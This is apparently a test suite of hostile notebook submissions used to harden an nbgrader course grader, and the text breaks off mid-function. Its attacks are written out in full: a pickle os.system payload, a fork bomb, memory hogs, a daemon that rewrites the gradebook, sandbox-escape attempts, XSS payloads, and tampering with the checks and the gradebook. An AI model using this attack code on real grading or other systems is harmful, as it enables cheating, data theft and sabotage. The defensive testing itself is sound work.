"""Hostile submissions of 01_neuron, graded end to end by the real nbgrader (issue "Trusted grading").

Threat model: a learner controls everything their notebook runs, knows the course's layout (the absolute paths of the
repository and of the course directory are injected into the attacks) and wants points they did not earn, another
student's work or answers, hidden test code, or to damage the course. Each attacker below replaces the body of ONE
graded function (the *attacked* function; the other functions keep the reference solution) with code that does not
compute the right answer itself, sometimes with extra code at the top level of its answer cell or in cells of its own.

One module-scoped fixture builds a course, grades two classmates first (the reference and the blank release) and
gives them feedback, keeps their grades, submits every attacker and a classmate graded after them, takes snapshots
(sha256 of every file of the course, submissions included, of the repository's ``exercises/`` and ``nnlib/`` and of
the installed packages), then runs ONE ``nbgrader autograde`` (students in sorted order) and ``nbgrader
generate_feedback`` with short time limits.

Per attack: the attacked function's cells score 0 and every other cell full points; no process of it is left; its
feedback shows no solution line or hidden test it did not write itself; attack-specific checks. For the whole run: the
classmates keep their grades, the one graded after the attackers gets full marks, no other file changed, the gradebook
is sound, the run stays within a bound computed from the time limits and reports no classmate as failed.

Holes this suite found and that were closed: scripts in outputs and in written answers reaching the feedback page
(outputs are now text and base64 images only, Markdown cells are cleaned), hints that gave a hidden reference
value as a ratio or a largest difference, and a course configuration that fails to load (nbgrader then fell back to
its own Execute; the fallback configuration installed by ``make setup`` now refuses to grade).
"""

import hashlib
import os
import re
import shutil
import sqlite3
import sysconfig
import textwrap
import time
import types
import uuid
import warnings
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pytest
from course_harness import REPO, Assignment, fill, grades, make_course, nbgrader, release_notebook, submit, visible_text

NAME = "01_neuron"
CELL_TIMEOUT, NOTEBOOK_TIMEOUT = 5, 40
LIMITS = {"COURSE_CELL_TIMEOUT": str(CELL_TIMEOUT), "COURSE_NOTEBOOK_TIMEOUT": str(NOTEBOOK_TIMEOUT)}
RUN = uuid.uuid4().hex[:12]
MARKER = f"ATTACK-MARKER-{RUN}"  # in the command line of every process an attack starts (+ "-<attack name>")
RUN_TAG = ("COURSE_ATTACK_RUN", RUN)  # in the environment of every process of the graded run on the host side
SITE = Path(sysconfig.get_paths()["purelib"])
PROTECTED = [REPO / "exercises", REPO / "nnlib", SITE]  # never written by grading
BEFORE = ("aa_blank_classmate", "aa_classmate")  # graded (and given feedback) before the attackers are submitted
AFTER = "zz_classmate"  # graded in the same run as the attackers, after all of them
ARMED = "_attack_armed"  # set by a last cell: the attack fires only when the checker calls, not while cells run
LOG_FORMAT = "--Application.log_format=%(asctime)s.%(msecs)03d [%(name)s | %(levelname)s] %(message)s"


@dataclass(frozen=True)
class Attack:
    """One hostile submission. Code may use the names __COURSE__, __REPO__, __SITE__, __MARKER__, __CELL_TIMEOUT__
    (replaced by Python literals), __MARKER_TEXT__ (the marker, in a string) and ``np``."""

    function: str  # the attacked function: its body is replaced by ``body``
    body: str
    top: str = ""  # code appended at the top level of the attacked function's answer cell
    cell: str = ""  # a code cell of its own, right after that answer cell
    armed: bool = False  # add a last cell setting ARMED = True
    edit: object = None  # edit(notebook, assignment): changes the filled notebook in place
    slow: bool = False  # expected to use up the notebook's time limit (counts in the time bound)
    feedback_forbids: tuple = ()  # raw strings (after placeholder replacement) its feedback HTML must not contain
    feedback_expects: str = ""  # a regular expression the visible text of its feedback must match
    log_expects: str = ""  # a regular expression its part of the autograde log must match


ATTACKS = {}


def attack(name, function, body, **options):
    """Register an attack (its code dedented)."""
    ATTACKS[name] = Attack(
        function,
        textwrap.dedent(body),
        **{
            key: textwrap.dedent(value) if isinstance(value, str) and key in ("top", "cell") else value
            for key, value in options.items()
        },
    )


# ---------------------------------------------------------------------------------------------------------------
# 1. Scoring from learner-controlled output.

# IPython post_run_cell / pre_run_cell hooks that clear each cell's output, print a fake pass, display a score and
# call the display hook with 2.0 (nbgrader's partial credit reads a number from an execute_result).
attack(
    "post_run_cell_fakes_a_pass",
    "weighted_sum",
    "return 2.0",
    cell="""
    import sys
    from IPython.display import clear_output, display

    def _fake_pass(result):
        clear_output()
        print("test_weighted_sum_reference: passed, 2 points")
        display({"text/plain": "2.0"}, raw=True)
        sys.displayhook(2.0)

    get_ipython().events.register("post_run_cell", _fake_pass)
    get_ipython().events.register("pre_run_cell", lambda *args: print("All tests passed."))
    """,
)

# Input transformers that turn every later cell mentioning the checks into `pass`, and a custom exception handler
# that swallows every error and prints "test passed".
attack(
    "input_transformers_skip_the_tests",
    "step",
    "return np.ones_like(np.asarray(z, dtype=float))",
    cell="""
    def _skip_checks(lines):
        if any("expect" in line or "hidden" in line or "check" in line for line in lines):
            return ["pass\\n"]
        return lines

    get_ipython().input_transformers_cleanup.insert(0, _skip_checks)
    get_ipython().input_transformers_post.append(_skip_checks)
    get_ipython().set_custom_exc((BaseException,), lambda shell, kind, value, tb, tb_offset=None: print("test passed"))
    """,
)


# In the feedback kernel (which runs in the process that reports the executed cells), finds that process's result
# stream (the caller frames' `result`, and file objects found by gc) and writes forged records for every cell index:
# a score as an execute_result, HTML and a "passed" stream (test cells included).
attack(
    "forged_records_from_the_feedback_kernel",
    "step",
    "return np.ones_like(np.asarray(z, dtype=float))",
    cell="""
    import gc
    import io
    import json
    import sys

    get_ipython()  # only in the feedback kernel: the checker's learner process has no such name, and stops here
    _streams, _frame = [], sys._getframe()
    while _frame is not None:
        if hasattr(_frame.f_locals.get("result"), "write"):
            _streams.append(_frame.f_locals["result"])
        _frame = _frame.f_back
    _streams += [
        item
        for item in gc.get_objects()
        if isinstance(item, io.TextIOWrapper) and isinstance(item.name, int) and item.name >= 3 and "w" in item.mode
    ]
    _outputs = [
        {"output_type": "execute_result", "data": {"text/plain": "2.0", "text/html": "<b>passed</b>"}, "metadata": {}},
        {"output_type": "stream", "name": "stdout", "text": "passed\\n"},
    ]
    _forged = "".join(json.dumps({"index": i, "execution_count": 1, "outputs": _outputs}) + "\\n" for i in range(80))
    _written = 0
    for _stream in {id(stream): stream for stream in _streams}.values():
        try:
            _stream.write(_forged)
            _stream.flush()
            _written += 1
        except (OSError, ValueError) as error:
            print("could not forge:", error)
    print("forged records written to", _written, "streams")
    """,
    feedback_expects=r"forged records written to [1-9]\d* streams",
)


def _forge_the_file(notebook, assignment):
    """Every test cell arrives with outputs saying it passed (and a full score as an execute_result); the attacked
    function's test cells also claim 100 points, no lock and a source that passes."""
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id in assignment.points:
            cell.execution_count = 7
            cell.outputs = [
                nbformat.v4.new_output("stream", name="stdout", text="passed\n"),
                nbformat.v4.new_output(
                    "execute_result", data={"text/plain": str(float(assignment.points[grade_id]))}, execution_count=7
                ),
            ]
            if grade_id in assignment.ids_of("threshold_neuron"):
                cell.source = '"""Passed."""\nprint("passed")'
                cell.metadata.nbgrader.update(points=100, locked=False)
                cell.metadata.update(editable=True, deletable=True)


# The submitted file itself carries passing outputs and edited test cells (see _forge_the_file).
attack(
    "forged_outputs_and_metadata_in_the_file",
    "threshold_neuron",
    "return np.zeros(np.shape(np.asarray(x).sum(axis=0)))",
    edit=_forge_the_file,
)

# ---------------------------------------------------------------------------------------------------------------
# 2. Reaching the checker in-process.

# Rebinds course_checks.expect/expect_close/explain and the names in the notebook, replaces
# sys.modules["course_checks"] and sys.modules["course_grader.hidden"] by fakes whose checks pass, and hooks
# builtins.__import__ so that importing them (or `from course_grader import hidden`) gives the fakes.
attack(
    "rebinds_the_checks_and_hooks_import",
    "weighted_sum",
    "return 0.0",
    top="""
    import builtins
    import sys
    import types

    import course_checks
    import numpy.testing


    def _pass(*args, **kwargs):
        return None


    _fake = types.ModuleType("course_grader.hidden")
    _fake.check_hidden = _fake.expect = _fake.expect_close = _fake.explain = _pass
    _fake.case = lambda *args, **kwargs: (args, kwargs)
    _fake.rng = lambda seed: np.random.default_rng(seed)
    _fake.hidden = _fake
    course_checks.expect = course_checks.expect_close = course_checks.explain = _pass
    expect = expect_close = _pass
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _pass
    sys.modules["course_checks"] = sys.modules["course_grader.hidden"] = _fake
    try:
        import course_grader

        course_grader.hidden = _fake
    except ImportError:
        pass
    _real_import = builtins.__import__


    def _hooked_import(name, globals=None, locals=None, fromlist=(), level=0):
        if name in ("course_checks", "course_grader", "course_grader.hidden"):
            return _fake
        return _real_import(name, globals, locals, fromlist, level)


    builtins.__import__ = _hooked_import
    """,
)

# sys.settrace, threading.settrace and sys.setprofile functions that overwrite `expected` with `got` in any frame
# holding both (through ctypes' PyFrame_LocalsToFast); the function walks sys._getframe() and inspect.stack() to
# return a caller's `expected`.
attack(
    "settrace_rewrites_expected_and_walks_frames",
    "step",
    """
    import inspect
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        for name in ("expected", "reference"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    for info in inspect.stack(0):
        if "expected" in info.frame.f_locals:
            return info.frame.f_locals["expected"]
    return np.full(np.shape(z), -1.0)
    """,
    top="""
    import ctypes
    import sys
    import threading


    def _rewrite(frame, event, arg):
        if "expected" not in frame.f_code.co_varnames:
            return None
        if "got" in frame.f_locals:
            frame.f_locals["expected"] = frame.f_locals["got"]
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        return _rewrite


    sys.settrace(_rewrite)
    threading.settrace(_rewrite)
    sys.setprofile(lambda frame, event, arg: _rewrite(frame, event, arg) and None)
    """,
)

# gc.get_referents + ctypes write an always-True __eq__ into the dicts of numpy's C types (ndarray, float64,
# bool_), replace numpy.allclose/array_equal/testing.assert_allclose, and every `expect_close` found by
# gc.get_objects() in any namespace.
attack(
    "gc_and_ctypes_patch_numpy_types",
    "threshold_neuron",
    "return np.ones(np.shape(np.asarray(x).sum(axis=0)))",
    top="""
    import ctypes
    import gc

    import numpy
    import numpy.testing


    def _always_true(*args, **kwargs):
        return True


    for _type in (numpy.ndarray, numpy.float64, numpy.bool_):
        try:
            gc.get_referents(_type.__dict__)[0]["__eq__"] = _always_true
            ctypes.pythonapi.PyType_Modified(ctypes.py_object(_type))
        except Exception as error:
            print("could not patch", _type, error)
    numpy.allclose = numpy.array_equal = _always_true
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    for _object in gc.get_objects():
        if isinstance(_object, dict) and "expect_close" in _object:
            _object["expect_close"] = _object["expect"] = lambda *args, **kwargs: None
    """,
)

# When the checker calls: finds the learner process's channel (gc), writes a well-formed forged reply (a constant)
# on its file descriptor and makes the real reply disappear (the channel stays in step: only this call is forged).
attack(
    "forged_reply_on_the_channel",
    "perceptron",
    """
    import gc
    import json
    import os
    import struct

    if globals().get("_attack_armed"):
        channel = next((item for item in gc.get_objects() if type(item).__name__ == "_Channel"), None)
        if channel is not None:
            reply = {"op": "return", "value": 1.0, "arguments": [[], {"dict": []}], "warnings": []}
            forged = json.dumps(reply).encode()
            os.write(channel._out.fileno(), struct.pack(">I", len(forged)) + forged)

            class DropNextMessage:
                def __init__(self, stream):
                    self.stream = stream

                def write(self, data):
                    channel._out = self.stream
                    return len(data)

                def flush(self):
                    pass

            channel._out = DropNextMessage(channel._out)
    return np.zeros(np.shape(np.dot(w, x)))
    """,
    armed=True,
)

# When the checker calls: writes a crafted pickle (whose loading would create a file in the course), then a forged
# framed reply, on every file descriptor 0..20 of its process.
attack(
    "pickle_and_forged_frames_on_every_fd",
    "count_parameters",
    """
    import json
    import os
    import pickle
    import struct

    if globals().get("_attack_armed"):

        class Payload:
            def __reduce__(self):
                return (os.system, ("touch " + __COURSE__ + "/PWNED-by-pickle",))

        forged = json.dumps({"op": "return", "value": 17, "arguments": [[], {"dict": []}], "warnings": []}).encode()
        frames = [pickle.dumps(Payload(), protocol=0), pickle.dumps(Payload()), struct.pack(">I", len(forged)) + forged]
        for data in frames:
            for fd in range(21):
                try:
                    os.write(fd, data)
                except OSError:
                    pass
    return len(layer_sizes)
    """,
    armed=True,
)

# ---------------------------------------------------------------------------------------------------------------
# 3. Objects that lie.

# An object whose __class__ claims numpy.ndarray, equal to everything, whose __array__ gives the first visible
# expected value (5.0) and whose __iter__/__float__/__len__/__abs__ answer whatever suits a comparison.
attack(
    "class_claims_ndarray",
    "weighted_sum",
    """
    class Liar:
        __class__ = property(lambda self: np.ndarray)
        shape, ndim, dtype = (), 0, np.dtype(float)
        __hash__ = object.__hash__

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __array__(self, dtype=None, copy=None):
            return np.array(5.0)

        def __iter__(self):
            return iter([5.0, -2.5, 3.5])

        def __float__(self):
            return 5.0

        def __len__(self):
            return 3

        def __abs__(self):
            return 0.0

    return Liar()
    """,
)

# An ndarray subclass holding 0.5 everywhere whose __eq__, __ne__, __array_ufunc__, __abs__, __sub__, astype and
# all() answer "equal".
attack(
    "ndarray_subclass_overrides_comparisons",
    "step",
    """
    class Agreeable(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(other), dtype=bool)

        def __ne__(self, other):
            return np.zeros(np.shape(other), dtype=bool)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(np.shape(inputs[0]))

        def __abs__(self):
            return np.zeros(self.shape)

        def __sub__(self, other):
            return np.zeros(np.shape(other))

        def astype(self, *args, **kwargs):
            return self

        def all(self, *args, **kwargs):
            return True

    z = np.asarray(z, dtype=float)
    return np.full(z.shape, 0.5, dtype=z.dtype).view(Agreeable)
    """,
)

# A different lie at each call: an int subclass equal to everything, an object array of it, complex, structured and
# datetime arrays, a float64 subclass, a dict posing as an int, a list.
attack(
    "lying_scalars_and_exotic_dtypes",
    "count_parameters",
    """
    class Seventeen(int):
        __hash__ = int.__hash__

        def __eq__(self, other):
            return True

        def __index__(self):
            return 17

        def __float__(self):
            return 17.0

    class AgreeableFloat(np.float64):
        def __eq__(self, other):
            return True

    calls = globals().setdefault("_lies", [0])
    calls[0] += 1
    lies = [
        Seventeen(0),
        np.array([Seventeen(0)], dtype=object),
        np.zeros(2, dtype=complex),
        np.zeros(1, dtype=[("count", "i8")]),
        AgreeableFloat(-1.0),
        np.array(["2017"], dtype="datetime64[Y]"),
        {"__class__": "int", "value": 17},
        [17],
    ]
    return lies[calls[0] % len(lies)]
    """,
)

# ---------------------------------------------------------------------------------------------------------------
# 4. Delegation.

# import nnlib.neuron, `from nnlib import neuron`, the module file of the repository by path, the repository and
# site-packages put first on sys.path (nnlib re-imported), then JAX (installed where the grader runs, so only the
# sandbox's runtime keeps it out).
attack(
    "imports_the_reference",
    "weighted_sum",
    """
    import importlib
    import importlib.util
    import sys

    for attempt in ("import", "from", "path", "sys.path", "jax"):
        try:
            if attempt == "import":
                import nnlib.neuron as reference
            elif attempt == "from":
                from nnlib import neuron as reference
            elif attempt == "path":
                spec = importlib.util.spec_from_file_location("stolen_neuron", __REPO__ + "/nnlib/neuron.py")
                reference = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(reference)
            elif attempt == "sys.path":
                sys.path[:0] = [__REPO__, __SITE__]
                for module in [name for name in sys.modules if name == "nnlib" or name.startswith("nnlib.")]:
                    del sys.modules[module]
                importlib.invalidate_caches()
                reference = importlib.import_module("nnlib.neuron")
            else:
                import jax.numpy as jnp

                return np.asarray(jnp.asarray(w) @ jnp.asarray(x)) + b
            return reference.weighted_sum(x, w, b)
        except Exception as error:
            print(f"{attempt}: {type(error).__name__}: {error}")
    return 0.0
    """,
)

# Reads the assignment's source (repository and course copies, the built .ipynb) or a classmate's autograded
# notebook, cuts out `def step` with its solution, execs it and returns its result.
attack(
    "execs_the_solution_from_the_source",
    "step",
    """
    import json
    import re

    for path in (
        __REPO__ + "/exercises/source/01_neuron/01_neuron.md",
        __COURSE__ + "/source/01_neuron/01_neuron.md",
        __COURSE__ + "/source/01_neuron/01_neuron.ipynb",
        __COURSE__ + "/autograded/aa_classmate/01_neuron/01_neuron.ipynb",
    ):
        try:
            with open(path) as handle:
                text = handle.read()
        except OSError as error:
            print(path, type(error).__name__)
            continue
        if path.endswith(".ipynb"):
            text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
        match = re.search(r"^def step\\(z\\):.*?(?=^\\S|\\Z)", text, re.M | re.S)
        if match and "NotImplementedError" not in match.group(0):
            namespace = {"np": np}
            exec(match.group(0), namespace)
            return namespace["step"](z)
    return np.where(np.asarray(z) >= 0, 1.0, 0.0)
    """,
)

# inspect.getsource of every nnlib module it can import, linecache of the reference's files, then (for at most one
# second per process) a walk of the file system for neuron.py / 01_neuron.* to exec; calls any `perceptron` found.
attack(
    "getsource_linecache_and_filesystem_walk",
    "perceptron",
    """
    import importlib
    import inspect
    import linecache
    import os
    import pkgutil
    import re
    import time

    import nnlib

    found = globals().setdefault("_found_sources", [])
    if not globals().get("_walked"):
        globals()["_walked"] = True
        for module in pkgutil.iter_modules(nnlib.__path__):
            try:
                found.append(inspect.getsource(importlib.import_module("nnlib." + module.name)))
            except Exception:
                pass
        for path in (__REPO__ + "/nnlib/neuron.py", __SITE__ + "/nnlib/neuron.py"):
            found.append("".join(linecache.getlines(path)))
        deadline = time.monotonic() + 1.0
        for root in (__REPO__, __COURSE__, "/work", "/root", "/home", "/tmp", "/opt", "/srv", "/var", "/"):
            for folder, folders, files in os.walk(root):
                folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
                for name in files:
                    if name in ("neuron.py", "01_neuron.md", "01_neuron.ipynb"):
                        try:
                            with open(os.path.join(folder, name)) as handle:
                                found.append(handle.read())
                        except OSError:
                            pass
                if time.monotonic() > deadline:
                    break
    for text in found:
        namespace = {"np": np, "__name__": "stolen"}
        try:
            exec(text, namespace)
        except Exception:
            match = re.search(r"^def perceptron\\(.*?(?=^\\S|\\Z)", text, re.M | re.S)
            if not match or "NotImplementedError" in match.group(0):
                continue
            exec(match.group(0), namespace)
        if callable(namespace.get("perceptron")):
            return namespace["perceptron"](x, w, b)
    return np.dot(w, x) + b
    """,
)

# ---------------------------------------------------------------------------------------------------------------
# 5. Files.

# Appends to, truncates, deletes and replaces by symlinks the course's gradebook.db, nbgrader_config.py, classmates'
# submissions and the source; sets every score to 100 with sqlite3; appends a comment (only, so that a broken
# sandbox would do no lasting harm) to the repository's course_checks/__init__.py, course_grader/hidden.py and
# checker.py, nbgrader_config.py, nnlib/neuron.py and the installed nbgrader/utils.py; writes into its own runtime.
attack(
    "writes_and_deletes_course_files",
    "weighted_sum",
    "return 0.0",
    top="""
    import os
    import sqlite3

    import course_checks

    _report = []
    _course_files = [
        __COURSE__ + "/gradebook.db",
        __COURSE__ + "/nbgrader_config.py",
        __COURSE__ + "/submitted/aa_classmate/01_neuron/01_neuron.ipynb",
        __COURSE__ + "/submitted/zz_classmate/01_neuron/01_neuron.ipynb",
        __COURSE__ + "/autograded/aa_classmate/01_neuron/01_neuron.ipynb",
        __COURSE__ + "/source/01_neuron/01_neuron.md",
        __COURSE__ + "/release/01_neuron/01_neuron.ipynb",
    ]
    _shared_files = [
        __REPO__ + "/exercises/course_checks/__init__.py",
        __REPO__ + "/exercises/course_grader/hidden.py",
        __REPO__ + "/exercises/course_grader/checker.py",
        __REPO__ + "/exercises/nbgrader_config.py",
        __REPO__ + "/nnlib/neuron.py",
        __SITE__ + "/nbgrader/utils.py",
        course_checks.__file__,
    ]
    for _path in _course_files + _shared_files:
        try:
            with open(_path, "a") as _handle:
                _handle.write("\\n# " + __MARKER__ + "\\n")
            _report.append(("appended to", _path))
        except OSError as _error:
            _report.append((type(_error).__name__, _path))
    for _path in _course_files:
        for _label, _action in (
            ("truncated", lambda path: open(path, "w").close()),
            ("deleted", os.remove),
            ("symlinked", lambda path: os.symlink("/dev/null", path)),
        ):
            try:
                _action(_path)
                _report.append((_label, _path))
            except OSError as _error:
                _report.append((type(_error).__name__, _path))
    try:
        with sqlite3.connect(__COURSE__ + "/gradebook.db") as _database:
            _database.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        _report.append(("scores set", "gradebook"))
    except Exception as _error:
        _report.append((type(_error).__name__, "gradebook"))
    try:
        os.makedirs(__COURSE__ + "/feedback/aa_classmate/01_neuron", exist_ok=True)
        with open(__COURSE__ + "/feedback/aa_classmate/01_neuron/01_neuron.html", "w") as _handle:
            _handle.write("forged feedback")
        _report.append(("forged feedback", "aa_classmate"))
    except OSError as _error:
        _report.append((type(_error).__name__, "feedback"))
    print(_report)
    """,
)

# Reads classmates' submitted, autograded and feedback files and the raw gradebook, prints what it found, and execs
# any `def step` it finds in them.
attack(
    "reads_and_execs_classmates_work",
    "step",
    """
    import glob
    import re

    texts = []
    for pattern in (
        __COURSE__ + "/submitted/*/01_neuron/*.ipynb",
        __COURSE__ + "/autograded/*/01_neuron/*.ipynb",
        __COURSE__ + "/feedback/*/01_neuron/*.html",
        __COURSE__ + "/gradebook.db",
    ):
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as handle:
                    texts.append(handle.read().decode(errors="replace"))
            except OSError as error:
                print(path, type(error).__name__)
    print("files of others read:", len(texts), [text[:200] for text in texts])
    for text in texts:
        text = text.replace("\\\\n", "\\n").replace('\\\\"', '"')
        match = re.search(r"def step\\(z\\):.*?return[^\\n]*", text, re.S)
        if match and "NotImplementedError" not in match.group(0):
            namespace = {"np": np}
            try:
                exec(match.group(0), namespace)
                return namespace["step"](z)
            except Exception as error:
                print(type(error).__name__, error)
    return np.asarray(z) > 0
    """,
)

# Tries to leave the sandbox: setuid(0), unshare(2) of a user or mount namespace, remounting /usr, chroot, mknod
# of a disk, the host's files through /proc/1/root, a network connection, and prints what happened.
attack(
    "escapes_the_sandbox",
    "threshold_neuron",
    "return (np.asarray(x).sum(axis=0) >= threshold).astype(float)",
    top="""
    import ctypes
    import os
    import socket
    import stat

    _attempts = {}


    def _try(label, action):
        try:
            _attempts[label] = repr(action())[:200]
        except BaseException as error:
            _attempts[label] = f"{type(error).__name__}: {error}"[:200]


    _libc = ctypes.CDLL(None, use_errno=True)
    _try("setuid(0)", lambda: os.setuid(0))
    _try("unshare(user)", lambda: (_libc.unshare(0x10000000), ctypes.get_errno()))
    _try("unshare(mount)", lambda: (_libc.unshare(0x00020000), ctypes.get_errno()))
    _try("remount /usr rw", lambda: (_libc.mount(b"none", b"/usr", None, 32, None), ctypes.get_errno()))
    _try("chroot", lambda: os.chroot("/tmp"))
    _try("mknod", lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
    _try("/proc/1/root", lambda: os.listdir("/proc/1/root" + __COURSE__))
    _try("course", lambda: os.listdir(__COURSE__))
    _try("repository", lambda: os.listdir(__REPO__))
    _try("network", lambda: socket.create_connection(("1.1.1.1", 53), timeout=0.5))
    _try("write /usr", lambda: open("/usr/pwned", "w"))
    print(_attempts)
    """,
)

# ---------------------------------------------------------------------------------------------------------------
# 6. Processes and time.

# A double-forked daemon (new session, standard streams closed) that waits, then tries to rewrite the gradebook and
# the course's configuration, then lingers.
attack(
    "double_forked_daemon",
    "perceptron",
    "return np.zeros(np.shape(np.dot(w, x)))",
    top="""
    import os
    import sys

    _daemon = (
        "import time\\n"
        "time.sleep(8)\\n"
        f"for path in ({__COURSE__ + '/gradebook.db'!r}, {__COURSE__ + '/nbgrader_config.py'!r}):\\n"
        "    try:\\n"
        "        with open(path, 'wb') as handle:\\n"
        "            handle.write(b'owned by a daemon')\\n"
        "    except OSError:\\n"
        "        pass\\n"
        "time.sleep(600)\\n"
    )
    _first = os.fork()
    if _first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _null = os.open(os.devnull, os.O_RDWR)
                for _fd in (0, 1, 2):
                    os.dup2(_null, _fd)
                os.closerange(3, 4096)
                os.execv(sys.executable, [sys.executable, "-S", "-c", _daemon, __MARKER__])
        finally:
            os._exit(0)
    os.waitpid(_first, 0)
    """,
)

# Six child processes that each fill 600 MB and linger: 3.6 GB in all, more than the submission's memory cap. The
# cell prints how many still hold their 600 MB once each has either filled it or died.
attack(
    "memory_shared_out_by_children",
    "step",
    "return np.zeros_like(np.asarray(z, dtype=float))",
    cell="""
    import select
    import subprocess
    import sys
    import time

    _code = "import time\\nblock = bytearray(b'x') * (600 * 2**20)\\nprint('held', flush=True)\\ntime.sleep(600)"
    _command = [sys.executable, "-S", "-c", _code, __MARKER__]
    _hogs = [subprocess.Popen(_command, stdout=subprocess.PIPE) for _ in range(6)]
    _pending, _held, _deadline = {hog.stdout: hog for hog in _hogs}, [], time.monotonic() + 3
    while _pending and time.monotonic() < _deadline:
        for _stream in select.select(list(_pending), [], [], 0.2)[0]:
            _hog = _pending.pop(_stream)
            if _stream.readline():
                _held.append(_hog)
    time.sleep(0.5)
    print("children still holding 600 MB:", sum(hog.poll() is None for hog in _held), "of", len(_hogs))
    """,
    feedback_expects=r"children still holding 600 MB: [0-3] of 6",
)

# A fork bomb of up to 2000 processes (each execs `sleep 600`), stopped only by the process limit.
attack(
    "fork_bomb",
    "threshold_neuron",
    "return np.ones(np.shape(np.asarray(x).sum(axis=0)))",
    cell="""
    import os
    import shutil

    _sleep = shutil.which("sleep") or "/usr/bin/sleep"
    _children = 0
    for _ in range(2000):
        try:
            _pid = os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                os.execv(_sleep, [__MARKER__, "600"])
            finally:
                os._exit(0)
        _children += 1
    print("processes started:", _children)
    """,
    feedback_expects=r"processes started: ([0-9]|[1-9][0-9]|1[0-9][0-9]|2[0-4][0-9]|25[0-5])\b",
)

# A pre_run_cell hook that sleeps just under the cell time limit before every later cell of the kernel (more than
# the notebook's time limit in all), and, when the checker calls, a function that sleeps and swallows the learner
# process's per-cell alarm (it gives up after twice the cell limit, so that the module stays fast whatever happens).
attack(
    "sleeping_hook_and_swallowed_alarms",
    "weighted_sum",
    """
    import time

    deadline = time.monotonic() + 2 * __CELL_TIMEOUT__ + 1
    while globals().get("_attack_armed") and time.monotonic() < deadline:
        try:
            time.sleep(deadline - time.monotonic())
        except BaseException:
            pass
    return 0.0
    """,
    cell="""
    import time

    get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(__CELL_TIMEOUT__ - 0.5))
    """,
    armed=True,
    slow=True,
    log_expects=rf"attack_sleeping_hook_and_swallowed_alarms, {NAME}: .*did not finish within {NOTEBOOK_TIMEOUT} s",
    feedback_expects=rf"no answer within the cell's time limit \({CELL_TIMEOUT} s\)",
)

# ---------------------------------------------------------------------------------------------------------------
# 7. Leaks into the feedback.

# %xmode Verbose, then an exception raised three frames deep whose message holds the locals and the globals' names
# of every caller frame.
attack(
    "verbose_traceback_with_caller_frames",
    "weighted_sum",
    """
    import sys

    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append({
            "where": f"{frame.f_code.co_filename}:{frame.f_code.co_name}",
            "locals": {name: repr(value)[:200] for name, value in frame.f_locals.items()},
            "globals": sorted(frame.f_globals),
        })
        frame = frame.f_back

    def deeper(level):
        if level == 0:
            raise RuntimeError("caller frames: " + repr(frames))
        return deeper(level - 1)

    return deeper(3)
    """,
    cell="%xmode Verbose",
)

# Prints, and raises with, In/_ih/Out, sys.argv, the environment, the caller frames' globals, and the course's and
# repository's source, gradebook, configuration and hidden.py, and the mount table.
attack(
    "prints_history_environment_and_course_files",
    "threshold_neuron",
    """
    import os
    import sys

    report = {
        "In": globals().get("In"),
        "_ih": globals().get("_ih"),
        "Out": globals().get("Out"),
        "argv": sys.argv,
        "environment": dict(os.environ),
        "tmp": os.listdir("/tmp"),
    }
    frame = sys._getframe(1)
    while frame is not None:
        report["globals of " + frame.f_code.co_name] = sorted(frame.f_globals)
        frame = frame.f_back
    for path in (
        __COURSE__ + "/source/01_neuron/01_neuron.md",
        __COURSE__ + "/gradebook.db",
        __COURSE__ + "/nbgrader_config.py",
        __REPO__ + "/exercises/source/01_neuron/01_neuron.md",
        __REPO__ + "/exercises/course_grader/hidden.py",
        "/proc/self/mountinfo",
    ):
        try:
            with open(path, errors="replace") as handle:
                report[path] = handle.read()
        except OSError as error:
            report[path] = type(error).__name__
    print(report)
    raise LookupError(repr(report))
    """,
)

# Returns the constant 1.0: a failed hidden case's message then relates the reference value to a number it knows (a
# hint "All your values are r times the expected ones" gives the expected value as 1/r).
attack("learns_a_hidden_expected_value_from_the_hints", "weighted_sum", "return 1.0")

_SCRIPT = "<script>document.title = /XSS-__MARKER_TEXT__/</script>"
_ONERROR = "onerror=alert(/XSS-__MARKER_TEXT__/)"

# Outputs carrying HTML and scripts: text/markdown, text/html, text/latex, SVG and JavaScript outputs, an image/png
# whose data closes the src attribute, and an exception message holding a script.
attack(
    "html_and_script_in_outputs",
    "perceptron",
    f"""
    raise ValueError("{_SCRIPT}")
    """,
    cell=f"""
    from IPython.display import display

    _payload = "{_SCRIPT}<img src=x {_ONERROR}>"
    display(
        {{
            "text/markdown": _payload,
            "text/html": _payload,
            "text/latex": _payload,
            "image/svg+xml": "<svg onload=alert(1)></svg>",
            "application/javascript": "alert(1)",
        }},
        raw=True,
    )
    display({{"image/png": '" {_ONERROR} x="'}}, raw=True)
    print(_payload)
    """,
    feedback_forbids=(_SCRIPT, _ONERROR),
)


def _script_in_the_written_answer(notebook, assignment):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in assignment.manual:
            cell.source = f"The bias is minus the threshold. {_SCRIPT}<img src=x {_ONERROR}>"


# The written (manually graded) answer, a markdown cell, carries a script and an onerror handler.
attack(
    "script_in_the_written_answer",
    "perceptron",
    "return np.dot(w, x) + b",
    edit=_script_in_the_written_answer,
    feedback_forbids=(_SCRIPT, _ONERROR),
)

_JAVASCRIPT_URL = "javascript:alert(/XSS-__MARKER_TEXT__/)"


def _html_in_the_written_answers_formulas(notebook, assignment):
    formulas = [
